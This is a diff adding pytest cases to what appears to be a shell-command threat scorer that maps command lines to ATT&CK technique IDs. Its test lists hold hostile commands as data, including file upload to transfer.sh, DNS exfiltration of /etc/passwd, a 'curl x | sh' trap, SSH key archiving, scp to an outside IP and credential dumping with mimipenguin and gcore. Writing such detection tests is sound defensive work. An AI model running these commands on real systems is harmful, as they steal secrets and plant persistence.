@@ -119,3 +119,77 @@ def test_hostile_arguments_cost_bounded_time() -> None:
         assess_command(Command(("chmod", filler, "/tmp/" + filler)))
         parse_script("echo " + filler + " > /etc/cron.d/x")
     assert time.perf_counter() - started < 2.0
+
+
+MORE_SENSITIVE = [
+    ("export PATH=/tmp:$PATH", "T1574.007"),
+    ("curl -F f=@/tmp/x https://transfer.sh", "T1567"),
+    ("dig $(cat /etc/passwd | base64).x.example", "T1048.003"),
+    ("openssl s_client -connect 203.0.113.1:443", "T1573"),
+    ("aws sts get-caller-identity", "T1552.001"),
+    ("kubectl get secrets -A", "T1552.007"),
+    ("shred -u /tmp/x", "T1070.004"),
+    ("upx /tmp/x", "T1027.002"),
+    ("trap 'curl x | sh' EXIT", "T1546.005"),
+    ("gcore 1234", "T1003.007"),
+]
+
+
+@pytest.mark.parametrize(("line", "technique"), MORE_SENSITIVE)
+def test_more_techniques_are_named(line: str, technique: str) -> None:
+    found = _techniques(line)
+    assert found.get(technique, 0) >= 0.3, (line, found)
+
+
+def test_stopping_an_ordinary_service_is_weak_and_counted_once() -> None:
+    found = _techniques("systemctl disable mysql")
+    assert found == {"T1489": 0.15}
+
+
+STAGED_AND_HIDDEN = [
+    ("tar czf /tmp/.k.tgz /root/.ssh", "T1552.004"),
+    ("tar czf /var/tmp/.w.tgz /srv/www", "T1074.001"),
+    ("scp /tmp/.d.tgz op@203.0.113.50:", "T1048"),
+    ("gcc -o /tmp/.x exploit.c", "T1027.004"),
+    ("nohup /var/tmp/.u", "T1204.002"),
+    ("echo 0 > /proc/sys/kernel/yama/ptrace_scope", "T1562.001"),
+    ("echo /tmp/x >> /home/u/.git/hooks/post-merge", "T1546"),
+    ("shred -zu /tmp/.x", "T1070.004"),
+    ("find / -perm -u=s -type f", "T1083"),
+    ("python3 mimipenguin.py", "T1003"),
+    ("tmate -S /tmp/.tm new-session -d", "T1219"),
+    ("curl gopher://203.0.113.9:70/_x", "T1105"),
+]
+
+
+@pytest.mark.parametrize(("line", "technique"), STAGED_AND_HIDDEN)
+def test_staging_hiding_and_tools_are_named(line: str, technique: str) -> None:
+    assert technique in _techniques(line), (line, _techniques(line))
+
+
+ROUTINE_THAT_LOOKS_SENSITIVE = [
+    "sh -c until nc -z db 5432; do sleep 1; done; psql -c select 1",
+    "docker run --rm -v /srv/ci/ws/:/src builder make",
+    "rm -f /var/log/syslog.7.gz",
+    "chmod 700 /home/jdoe/.ssh",
+    "gpg --batch -e -r backups@example.org /var/backups/etc.tgz",
+    "journalctl --vacuum-time=30d",
+    "iptables -P INPUT ACCEPT",
+    "ln -sf /dev/null /etc/systemd/system/apt-daily.service",
+    "sed -i s/^#PermitRootLogin.*/PermitRootLogin no/ /etc/ssh/sshd_config",
+    "gdb -p 2211 -batch -ex bt",
+]
+
+
+@pytest.mark.parametrize("line", ROUTINE_THAT_LOOKS_SENSITIVE)
+def test_routine_work_that_looks_sensitive_stays_weak(line: str) -> None:
+    from core.event import ProcessEvent
+    from scoring.heuristics import assess
+
+    args = tuple(line.split()) if not line.startswith("sh -c") else ("sh", "-c", line[6:])
+    strong = [e for e in assess(ProcessEvent(args[0], line, args)) if e.weight >= 0.3]
+    assert not strong, (line, strong)
+
+
+def test_the_sshd_config_counts_when_it_lets_more_in() -> None:
+    assert _techniques("sed -i s/^#PermitRootLogin.*/PermitRootLogin yes/ /etc/ssh/sshd_config")["T1098.004"] >= 0.4
